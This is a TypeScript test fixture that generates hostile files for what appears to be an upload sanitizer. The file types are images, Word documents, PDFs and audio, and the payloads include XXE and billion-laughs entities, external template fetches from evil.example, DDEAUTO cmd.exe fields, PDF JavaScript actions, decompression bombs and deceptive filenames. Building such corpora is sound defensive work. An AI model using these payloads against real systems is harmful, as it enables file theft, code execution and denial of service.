import { deflateRawSync, deflateSync } from 'node:zlib'
import {
  aDocx,
  aJpeg,
  anM4a,
  anMp3,
  aPdf,
  aPng,
  aZip,
  box,
  exifTurned,
  joined,
  jpegSegment,
  latin1,
  number32,
  packedObjects,
  plainParts,
  pngChunk,
  pngStart,
  type ZipPartWish
} from '../../builders/files.ts'

/** `harmless` files are taken in, and what was hostile in them is gone. */
export type HostileFile = {
  readonly what: string
  readonly fileName: string
  readonly bytes: Uint8Array
  readonly expected: 'refused' | 'harmless'
}

/** Stands in everything hostile that a harmless file must have lost. */
export const venom = 'VENOM<script>alert(1)</script>'

const refused = (what: string, fileName: string, bytes: Uint8Array): HostileFile => ({
  what,
  fileName,
  bytes,
  expected: 'refused'
})
const harmless = (what: string, fileName: string, bytes: Uint8Array): HostileFile => ({
  ...refused(what, fileName, bytes),
  expected: 'harmless'
})
const zeros = (length: number) => new Uint8Array(length)

const laughs = [
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`),
  ']><lolz>&lol9;</lolz>'
].join('')
const entities = [
  laughs,
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '<!DOCTYPE a PUBLIC "x" "https://evil.example/a.dtd"><a/>',
  '<! DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
  '<a/><!ENTITY % p SYSTEM "\\\\evil\\share">'
]
const endings = ['jpg', 'jpeg', 'png', 'pdf', 'docx', 'm4a', 'mp3', 'txt']

const strangers: readonly (readonly [string, Uint8Array])[] = [
  ['a Windows program', joined(latin1('MZ\u0090\0\u0003\0\0\0'), zeros(64), latin1(venom))],
  ['a Linux program', joined([0x7f], latin1('ELF'), zeros(32))],
  ['a class of Java', joined([0xca, 0xfe, 0xba, 0xbe], zeros(8))],
  ['an archive of 7-Zip', joined([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c], zeros(8))],
  ['an archive of RAR', joined(latin1('Rar!'), [0x1a, 7, 0])],
  ['a packed stream', joined([0x1f, 0x8b, 8, 0], zeros(8))],
  ['a GIF', joined(latin1('GIF89a'), zeros(20))],
  ['a BMP', joined(latin1('BM'), zeros(60))],
  ['a TIFF', joined([0x49, 0x49, 42, 0], zeros(8))],
  ['a HEIC photograph', joined(zeros(4), latin1('ftypheic'), zeros(8))],
  ['an old document of Word', joined([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], zeros(64))],
  ['a shortcut', joined([0x4c, 0, 0, 0, 1, 0x14, 2, 0], zeros(20))],
  ['a database', joined(latin1('SQLite format 3\0'), zeros(80))],
  ['nothing but zeros', zeros(5000)],
  ['an address book of bytes', Uint8Array.from({ length: 512 }, (_, at) => at & 0xff)]
]

function lyingNames(): readonly HostileFile[] {
  const good: readonly (readonly [string, Uint8Array])[] = [
    ['pdf', aPdf()],
    ['png', aPng()],
    ['jpg', aJpeg()],
    ['docx', aDocx()],
    ['m4a', anM4a()],
    ['mp3', anMp3()]
  ]
  const same = (one: string, other: string) => one === other || (one === 'jpg' && other === 'jpeg')
  return endings.flatMap(ending => [
    ...strangers.map(([what, bytes]) => refused(`${what} called ${ending}`, `a.${ending}`, bytes)),
    ...good
      .filter(([kind]) => !same(kind, ending) && !(ending === 'txt' && kind === 'pdf'))
      .map(([kind, bytes]) => refused(`a ${kind} called ${ending}`, `a.${ending}`, bytes))
  ])
}

const wrongEndings =
  'exe com bat cmd ps1 vbs js jse wsf hta msi lnk scr jar app dmg sh py svg svgz xml xhtml html htm mht eml msg zip rar 7z gz iso docm doc dotm dot rtf odt xls xlsx xlsm ppt pptx pptm pps one gif bmp tif tiff webp heic heif avif psd ico ttf mp4 mov avi mkv wav ogg webm swf chm url reg'

function wrongNames(): readonly HostileFile[] {
  const tricky = [
    'photo.jpg.exe',
    'photo.jpg ',
    'photo.jpg.',
    'photo.jpg\u0000.exe',
    'photo.jpg::$DATA',
    '../../photo',
    'photo\u202Egpj.exe',
    '.jpg\u200B',
    'photo',
    '.',
    'constructor',
    'a.__proto__',
    'a.jpg/',
    'a.jpg\n'
  ]
  return [
    ...wrongEndings.split(' ').map(ending => refused(`a name that ends in ${ending}`, `a.${ending}`, aJpeg())),
    ...tricky.map(name => refused(`the name ${JSON.stringify(name)}`, name, aJpeg())),
    ...entities.map((text, at) => refused(`entities ${at} as svg`, 'a.svg', latin1(text))),
    ...entities.map((text, at) => refused(`entities ${at} as xml`, 'a.xml', latin1(text))),
    ...entities.flatMap((text, at) =>
      ['png', 'pdf', 'docx', 'jpg'].map(ending => refused(`entities ${at} as ${ending}`, `a.${ending}`, latin1(text)))
    )
  ]
}

function cutFiles(): readonly HostileFile[] {
  const whole: readonly (readonly [string, Uint8Array])[] = [
    ['a.png', aPng()],
    ['a.jpg', aJpeg({ before: [jpegSegment(0xe1, exifTurned(3))] })],
    ['a.docx', aDocx()],
    ['a.m4a', anM4a()],
    ['a.pdf', aPdf([packedObjects('<< /Type /Page >>')])]
  ]
  const parts = [0.01, 0.05, 0.1, 0.2, 0.3, 0.45, 0.6, 0.75, 0.85, 0.93]
  return whole.flatMap(([fileName, bytes]) =>
    parts.map(part =>
      refused(`${fileName} cut at ${part}`, fileName, bytes.subarray(0, Math.max(1, Math.floor(bytes.length * part))))
    )
  )
}

/** A head that lies: the points are those of a small picture. */
const lyingPng = (width: number, height: number) =>
  joined(
    pngStart,
    pngChunk('IHDR', joined(number32(width), number32(height), [8, 2, 0, 0, 0])),
    pngChunk('IDAT', deflateSync(zeros(400))),
    pngChunk('IEND', zeros(0))
  )

function pngs(): readonly HostileFile[] {
  const sizes = [
    [0, 1],
    [1, 0],
    [20_001, 1],
    [1, 20_001],
    [8000, 8000],
    [0x7fffffff, 0x7fffffff],
    [0xffffffff, 1],
    [65_536, 65_536]
  ] as const
  const heads = [
    [3, 2, 0, 0, 0],
    [8, 1, 0, 0, 0],
    [8, 5, 0, 0, 0],
    [8, 7, 0, 0, 0],
    [1, 2, 0, 0, 0],
    [16, 3, 0, 0, 0],
    [8, 2, 1, 0, 0],
    [8, 2, 0, 1, 0],
    [8, 2, 0, 0, 2],
    [0, 0, 0, 0, 0]
  ]
  const bomb = deflateSync(zeros(30_000_000))
  const points = deflateSync(zeros(30 * 121))
  const head = pngChunk('IHDR', joined(number32(40), number32(30), [8, 2, 0, 0, 0]))
  const of = (...chunks: readonly Uint8Array[]) => joined(pngStart, ...chunks)
  const data = pngChunk('IDAT', points)
  const end = pngChunk('IEND', zeros(0))
  const wrongSum = data.map((byte, at) => (at === data.length - 1 ? byte ^ 0xff : byte))
  const emptyData = pngChunk('IDAT', zeros(0))
  const emptyChunks = [
    joined(...Array.from({ length: 1000 }, () => Buffer.concat(Array.from({ length: 100 }, () => emptyData))))
  ]
  const long = joined(number32(0x7fffffff), latin1('IDAT'), points)
  return [
    ...sizes.map(([width, height]) => refused(`a drawing of ${width} by ${height}`, 'a.png', lyingPng(width, height))),
    ...heads.map(one => refused(`a drawing with the head ${one}`, 'a.png', aPng({ head: one }))),
    refused('a drawing that unpacks to 30 MB', 'a.png', aPng({ packed: bomb })),
    refused('a drawing with too few points', 'a.png', aPng({ packed: deflateSync(zeros(100)) })),
    refused('a drawing whose points are no stream', 'a.png', aPng({ packed: zeros(200) })),
    refused('a drawing with a cut stream', 'a.png', aPng({ packed: points.subarray(0, 5) })),
    refused('a drawing without points', 'a.png', of(head, end)),
    refused('a drawing without a head', 'a.png', of(data, end)),
    refused('a drawing with two heads', 'a.png', of(head, head, data, end)),
    refused('a drawing whose head comes late', 'a.png', of(data, head, end)),
    refused('a drawing whose points lie apart', 'a.png', of(head, data, pngChunk('tEXt', zeros(1)), data, end)),
    refused('a drawing with a wrong sum', 'a.png', of(head, wrongSum, end)),
    refused('a drawing with a chunk of 2 GB', 'a.png', of(head, long, end)),
    refused('a drawing of a hundred thousand empty chunks', 'a.png', joined(of(head), ...emptyChunks, end)),
    harmless('a drawing with a script in its text', 'a.png', aPng({ chunks: [pngChunk('tEXt', latin1(venom))] })),
    harmless(
      'a drawing with packed text that is a bomb',
      'a.png',
      aPng({ chunks: [pngChunk('zTXt', joined(latin1(`${venom}\0\0`), bomb))] })
    ),
    harmless('a drawing with a profile', 'a.png', aPng({ chunks: [pngChunk('iCCP', latin1(venom))] })),
    harmless(
      'a moving drawing',
      'a.png',
      aPng({ chunks: [pngChunk('acTL', latin1(venom)), pngChunk('fdAT', latin1(venom))] })
    ),
    harmless(
      'a drawing with a zip behind it',
      'a.png',
      joined(aPng(), aZip([{ name: venom.slice(0, 5), content: venom }]), latin1(venom))
    ),
    harmless('a drawing with a page behind it', 'a.png', joined(aPng(), latin1(`<html>${venom}`)))
  ]
}

function jpegs(): readonly HostileFile[] {
  const sizes = [
    [0, 10],
    [10, 0],
    [65_535, 65_535],
    [20_001, 1],
    [8000, 8000]
  ] as const
  const frame = (code: number) => jpegSegment(code, [8, 0, 9, 0, 9, 1, 1, 0x11, 0])
  const raw = (...parts: readonly (Uint8Array | readonly number[])[]) => joined([0xff, 0xd8], ...parts)
  const hidden = latin1(venom)
  return [
    ...sizes.map(([width, height]) =>
      refused(`a photograph of ${width} by ${height}`, 'a.jpg', aJpeg({ width, height }))
    ),
    ...[0xc0, 0xc1, 0xc2].map(code =>
      refused(`a photograph with a second frame ${code}`, 'a.jpg', aJpeg({ before: [frame(code)] }))
    ),
    ...[0xc3, 0xc5, 0xc6, 0xc7, 0xc8, 0xc9, 0xca, 0xcb, 0xcc, 0xcd, 0xce, 0xcf, 0xdc, 0xde, 0xdf, 0x01, 0x02, 0xf0].map(
      code => refused(`a photograph with the marker ${code}`, 'a.jpg', aJpeg({ before: [frame(code)] }))
    ),
    ...[101, 1000, 20_000].map(scans => refused(`a photograph of ${scans} scans`, 'a.jpg', aJpeg({ scans }))),
    refused('a photograph with a scan before its frame', 'a.jpg', raw(jpegSegment(0xda, [1]), [1, 0xff, 0xd9])),
    refused('a photograph without a scan', 'a.jpg', raw(frame(0xc0), [0xff, 0xd9])),
    refused(
      'a photograph that never ends',
      'a.jpg',
      raw(frame(0xc0), jpegSegment(0xda, [1]), new Uint8Array(2_000_000).fill(0xff))
    ),
    refused(
      'a photograph of stuffed bytes',
      'a.jpg',
      raw(
        frame(0xc0),
        jpegSegment(0xda, [1]),
        Uint8Array.from({ length: 2_000_000 }, (_, at) => (at & 1 ? 0 : 0xff))
      )
    ),
    refused('a photograph with a segment of length 0', 'a.jpg', raw([0xff, 0xdb, 0, 0], zeros(20))),
    refused('a photograph with a segment of length 1', 'a.jpg', raw([0xff, 0xdb, 0, 1], zeros(20))),
    refused('a photograph with a segment past its end', 'a.jpg', raw([0xff, 0xdb, 0xff, 0xff], zeros(20))),
    refused('a photograph with a short frame', 'a.jpg', raw(jpegSegment(0xc0, [8, 0]), [0xff, 0xd9])),
    ...[0xe0, 0xe1, 0xe2, 0xe5, 0xec, 0xed, 0xee, 0xef, 0xfe].map(code =>
      harmless(`a photograph with a script in segment ${code}`, 'a.jpg', aJpeg({ before: [jpegSegment(code, hidden)] }))
    ),
    ...[0, 9, 99, 60_000].map(turned =>
      harmless(
        `a photograph turned ${turned}`,
        'a.jpg',
        aJpeg({ before: [jpegSegment(0xe1, joined(exifTurned(turned & 0xff), hidden))] })
      )
    ),
    harmless(
      'a photograph whose tags begin far away',
      'a.jpg',
      aJpeg({ before: [jpegSegment(0xe1, joined(latin1('Exif\0\0MM'), [0, 42, 0xff, 0xff, 0xff, 0xff], hidden))] })
    ),
    harmless(
      'a photograph with 65,535 tags',
      'a.jpg',
      aJpeg({
        before: [jpegSegment(0xe1, joined(latin1('Exif\0\0MM'), [0, 42, 0, 0, 0, 8, 0xff, 0xff], zeros(6000), hidden))]
      })
    ),
    harmless(
      'a photograph with a zip behind it',
      'a.jpg',
      aJpeg({ after: aZip([{ name: 'a', content: venom, packed: hidden, says: { method: 0 } }]) })
    ),
    harmless(
      'a photograph with a second one behind it',
      'a.jpg',
      aJpeg({ after: aJpeg({ before: [jpegSegment(0xfe, hidden)] }) })
    ),
    harmless('a photograph with a page behind it', 'a.jpg', aJpeg({ after: hidden }))
  ]
}

const relation = (type: string, target: string, mode = ' TargetMode="External"'): ZipPartWish => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="${target}"${mode}/></Relationships>`
})
const without = (name: string) => plainParts.filter(part => part.name !== name)

function documents(): readonly HostileFile[] {
  const kinds = ['attachedTemplate', 'image', 'oleObject', 'frame', 'subDocument', 'video', 'externalLink', 'package']
  const targets = ['https://evil.example/a.dotm', '\\\\evil\\share\\a', 'file:///c:/a.exe', 'ftp://evil.example/a']
  const bad = [
    'javascript:alert(1)',
    'file:///etc/passwd',
    'ms-msdt:/id',
    'search-ms:query',
    'vbscript:x',
    'data:text/html,x'
  ]
  const programs = [
    'word/vbaProject.bin',
    'word/vbaData.xml',
    'word/activeX/activeX1.xml',
    'word/a.exe',
    'word/a.js',
    'word/a.vbs',
    'a.lnk',
    'word/a.ps1',
    'word/VBAPROJECT.BIN'
  ]
  const files = [
    'word/embeddings/oleObject1.bin',
    'word/embeddings/a.xlsx',
    'word/embeddings/a.docx',
    'word/media/a.zip',
    'word/a.html',
    'word/a.mht',
    'word/media/a.svg',
    'word/a.rtf',
    'customXml/a.pdf',
    'evil',
    'word/media/noending'
  ]
  const names = [
    '../evil.xml',
    '/etc/passwd',
    'word/../../evil.xml',
    'C:\\evil.xml',
    'word\\evil.xml',
    'word/a\0.xml',
    './a.xml',
    'a'.repeat(300),
    'word/<a>.xml',
    'word/\u00e9.xml'
  ]
  const doc = (what: string, ...parts: readonly ZipPartWish[]) => refused(what, 'a.docx', aDocx(parts))
  const big = zeros(30_000_000)
  const packedBig = deflateRawSync(big)
  const text = (content: Uint8Array | string) => [
    ...without('word/document.xml'),
    { name: 'word/document.xml', content }
  ]
  const whole = aDocx()
  return [
    ...kinds.flatMap(kind =>
      targets.map(target => doc(`a document that fetches ${kind} from ${target}`, relation(kind, target)))
    ),
    ...bad.map(target => doc(`a document with a link to ${target}`, relation('hyperlink', target))),
    ...targets
      .slice(0, 3)
      .map(target => doc(`a document that hides ${target} as its own`, relation('image', target, ''))),
    doc(
      'a document with hidden letters in a link',
      relation('image', 'https://evil.example', ' TargetMode="Extern&#97;l"')
    ),
    doc('a document whose link has its own prefix', {
      name: 'word/_rels/a.rels',
      content: '<r:Relationship Type="x/image" Target="https://evil.example" TargetMode="External"/>'
    }),
    ...programs.map(name => doc(`a document with ${name}`, { name, content: 'x' })),
    ...files.map(name => doc(`a document with ${name}`, { name, content: 'x' })),
    ...names.map(name =>
      doc(`a document with the part ${JSON.stringify(name.slice(0, 20))}`, { name, content: '<a/>' })
    ),
    ...entities.flatMap((words, at) =>
      ['word/styles.xml', 'docProps/core.xml', 'customXml/item1.xml', 'word/_rels/b.rels'].map(name =>
        doc(`entities ${at} in ${name}`, { name, content: words })
      )
    ),
    ...entities.map((words, at) => refused(`entities ${at} in the text`, 'a.docx', aZip(text(words)))),
    ...(['utf16le', 'latin1'] as const).map(code =>
      refused(`a text in ${code}`, 'a.docx', aZip(text(Buffer.from('\uFEFF<!DOCTYPE é>', code))))
    ),
    refused('a text that says another encoding', 'a.docx', aZip(text('<?xml version="1.0" encoding="UTF-7"?><a/>'))),
    ...[
      '<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>',
      '<w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>',
      '<w:fldSimple w:instr="DDE cmd"/>',
      '<w:altChunk r:id="a"/>'
    ].map(words => refused(`a text with ${words.slice(0, 20)}`, 'a.docx', aZip(text(`<a>${words}</a>`)))),
    refused(
      'a document that says it has macros',
      'a.docx',
      aZip([
        ...without('[Content_Types].xml'),
        {
          name: '[Content_Types].xml',
          content: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        }
      ])
    ),
    doc('a part of 30 MB out of 30 KB', { name: 'word/a.xml', content: big }),
    doc('a part that says 10 bytes and has 30 MB', {
      name: 'word/a.xml',
      content: 'x',
      packed: packedBig,
      says: { size: 10 }
    }),
    doc('a part that says 900,000 bytes and has 30 MB', {
      name: 'word/a.xml',
      content: 'x',
      packed: packedBig,
      says: { size: 900_000 }
    }),
    doc('a picture that says 5 bytes and has 30 MB', {
      name: 'word/media/a.png',
      content: 'x',
      packed: packedBig,
      says: { size: 5 }
    }),
    doc('a part that says 4 GB', { name: 'word/a.xml', content: 'x', says: { size: 0xffffffff } }),
    doc('a part that says more than it has', { name: 'word/a.xml', content: 'abc', says: { size: 50 } }),
    doc(
      'ten bombs of 3 MB',
      ...Array.from({ length: 10 }, (_, at) => ({ name: `word/a${at}.xml`, content: zeros(3_000_000) }))
    ),
    doc(
      'parts that share bytes',
      ...Array.from({ length: 50 }, (_, at) => ({
        name: 'word/a.xml'.replace('a', `a${at}`),
        content: 'x',
        says: { from: 0 }
      }))
    ),
    doc(
      'a thousand parts on one place',
      ...Array.from({ length: 1000 }, (_, at) => ({ name: `word/b${at}.xml`, content: '<a/>', says: { from: 30 } }))
    ),
    doc('too many parts', ...Array.from({ length: 2100 }, (_, at) => ({ name: `word/c${at}.xml`, content: '' }))),
    doc('one name twice', { name: 'word/document.xml', content: '<b/>' }),
    doc('one name twice in capitals', { name: 'WORD/DOCUMENT.XML', content: '<b/>' }),
    doc('a part with a passphrase', { name: 'word/a.xml', content: 'x', says: { flags: 1 } }),
    doc('an unknown way of packing', { name: 'word/a.xml', content: 'x', says: { method: 12 } }),
    doc('a part that is no stream', { name: 'word/a.xml', content: 'x', packed: latin1('not packed at all') }),
    doc('a zip inside that is called a picture', {
      name: 'word/media/a.png',
      content: aZip([{ name: 'a', content: 'x' }])
    }),
    doc('a program inside that is called a picture', { name: 'word/media/a.jpg', content: latin1('MZ\u0090\0') }),
    refused('a zip with a comment', 'a.docx', aZip(plainParts, { comment: venom })),
    refused('a zip with a page behind it', 'a.docx', joined(whole, latin1(venom))),
    refused('a zip with 4 bytes before it', 'a.docx', aZip(plainParts, { before: 4 })),
    refused('a zip that is no document', 'a.docx', aZip([{ name: 'a.txt', content: 'x' }])),
    ...['[Content_Types].xml', 'word/document.xml'].map(name =>
      refused(`a document without ${name}`, 'a.docx', aZip(without(name)))
    ),
    refused('an empty zip', 'a.docx', joined(latin1('PK\u0003\u0004'), aZip([])))
  ]
}

function papers(): readonly HostileFile[] {
  const words = [
    'JavaScript',
    'Launch',
    'RichMedia',
    'Movie',
    'Sound',
    'SubmitForm',
    'ImportData',
    'XFA',
    'Rendition',
    'EmbeddedFile',
    'EmbeddedFiles',
    'FileAttachment',
    'GoToE',
    'Encrypt'
  ]
  const numbered = (word: string) =>
    [...word].map((letter, at) => (at % 2 ? letter : `#${letter.charCodeAt(0).toString(16)}`)).join('')
  const of = (word: string) => `<< /Type /Action /S /${word} /JS (${venom}) >>`
  const bomb = packedObjects(' '.repeat(40_000_000))
  const other = (filter: string) => `<< /Type /ObjStm /Filter [/${filter} /FlateDecode] >>\nstream\nxx\nendstream`
  return [
    ...words.flatMap(word => [
      refused(`a paper with ${word}`, 'a.pdf', aPdf([of(word)])),
      refused(`a paper with ${word} in numbers`, 'a.pdf', aPdf([of(numbered(word))])),
      refused(`a paper with ${word} packed away`, 'a.pdf', aPdf([packedObjects(of(word))])),
      refused(`a paper with ${word} packed away in numbers`, 'a.pdf', aPdf([packedObjects(of(numbered(word)))])),
      refused(`a paper with ${word} in a stream that is none`, 'a.pdf', aPdf([`<< >>\nstream\n${of(word)}\nendstream`]))
    ]),
    refused('a paper whose list is a bomb', 'a.pdf', aPdf([bomb])),
    refused(
      'a paper of many small bombs',
      'a.pdf',
      aPdf(Array.from({ length: 40 }, () => packedObjects(' '.repeat(1_000_000))))
    ),
    ...['ASCIIHexDecode', 'ASCII85Decode', 'LZWDecode', 'Crypt', 'RunLengthDecode'].map(filter =>
      refused(`a list packed with ${filter}`, 'a.pdf', aPdf([other(filter)]))
    ),
    refused('a list that never ends', 'a.pdf', aPdf(['<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nxx'])),
    refused(
      'a list that is no stream',
      'a.pdf',
      aPdf(['<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed\nendstream'])
    ),
    refused(
      'six thousand lists',
      'a.pdf',
      aPdf(Array.from({ length: 6000 }, () => '<< /Type /ObjStm >>\nstream\n \nendstream'))
    ),
    refused('a paper without an end', 'a.pdf', latin1(`%PDF-1.7\n${venom}`)),
    refused('a paper with a zip behind it', 'a.pdf', joined(aPdf(), aDocx())),
    refused('a paper with a small program behind it', 'a.pdf', joined(aPdf(), latin1(`MZ\u0090\0${venom}`))),
    refused('a paper with a page of the web far behind it', 'a.pdf', aPdf([], ' '.repeat(2000) + venom)),
    refused('a paper that begins late', 'a.pdf', joined(latin1('\n'), aPdf())),
    refused('a million streams', 'a.pdf', latin1(`%PDF-1.7\n${'stream '.repeat(1_000_000)}`))
  ]
}

function sounds(): readonly HostileFile[] {
  const nested = (depth: number): Uint8Array => (depth === 0 ? box('free', zeros(1)) : box('trak', nested(depth - 1)))
  const start = box('ftyp', latin1('M4A \0\0\0\0'))
  const sound = box('mdat', latin1('sound'))
  const raw = (...parts: readonly Uint8Array[]) => joined(start, ...parts, sound)
  return [
    refused('a recording without sound', 'a.m4a', joined(start, box('moov', zeros(0)))),
    refused('a box of length 4', 'a.m4a', raw(joined(number32(4), latin1('abcd')))),
    refused('a box past the end', 'a.m4a', raw(joined(number32(0x7fffffff), latin1('abcd')))),
    refused(
      'a box of 2^63 bytes',
      'a.m4a',
      raw(joined(number32(1), latin1('abcd'), [0x7f, 255, 255, 255, 255, 255, 255, 255]))
    ),
    refused('a wide box that is cut', 'a.m4a', joined(start, sound, number32(1), latin1('mdat'))),
    refused('thirty thousand boxes', 'a.m4a', raw(...Array.from({ length: 30_000 }, () => box('free', zeros(0))))),
    refused(
      'a label that is longer than the file',
      'a.mp3',
      joined(latin1('ID3'), [4, 0, 0, 0x7f, 0x7f, 0x7f, 0x7f], [0xff, 0xfb, 0, 0])
    ),
    refused(
      'a label with a wrong length',
      'a.mp3',
      joined(latin1('ID3'), [4, 0, 0, 0xff, 0, 0, 0], [0xff, 0xfb, 0, 0])
    ),
    refused('nothing but a label', 'a.mp3', latin1('ID3')),
    refused(
      'a label and a program',
      'a.mp3',
      joined(latin1('ID3'), [4, 0, 0, 0, 0, 0, 1, 0], latin1('MZ\u0090\0\0\0'))
    ),
    harmless('boxes in boxes', 'a.m4a', raw(nested(500), box('udta', latin1(venom)))),
    ...['udta', 'meta', 'uuid'].map(name =>
      harmless(
        `a script in ${name}`,
        'a.m4a',
        anM4a([box(name, latin1(venom)), box('moov', box('trak', box(name, latin1(venom))))])
      )
    ),
    harmless(
      'a script in the label',
      'a.mp3',
      joined(latin1('ID3'), [4, 0, 0, 0, 0, 0, venom.length], latin1(venom), [0xff, 0xfb, 0x90, 0, 1])
    )
  ]
}

const extremes = (): readonly HostileFile[] =>
  endings.flatMap(ending => [
    refused(`nothing at all called ${ending}`, `a.${ending}`, zeros(0)),
    refused(`one byte called ${ending}`, `a.${ending}`, Uint8Array.of(0)),
    refused(`21 MB called ${ending}`, `a.${ending}`, zeros(21 * 1024 * 1024))
  ])

/** Every file of the corpus, made anew each time: none of them lies on a disk. */
export function hostileFiles(): readonly HostileFile[] {
  return [
    ...lyingNames(),
    ...wrongNames(),
    ...cutFiles(),
    ...pngs(),
    ...jpegs(),
    ...documents(),
    ...papers(),
    ...sounds(),
    ...extremes()
  ]
}
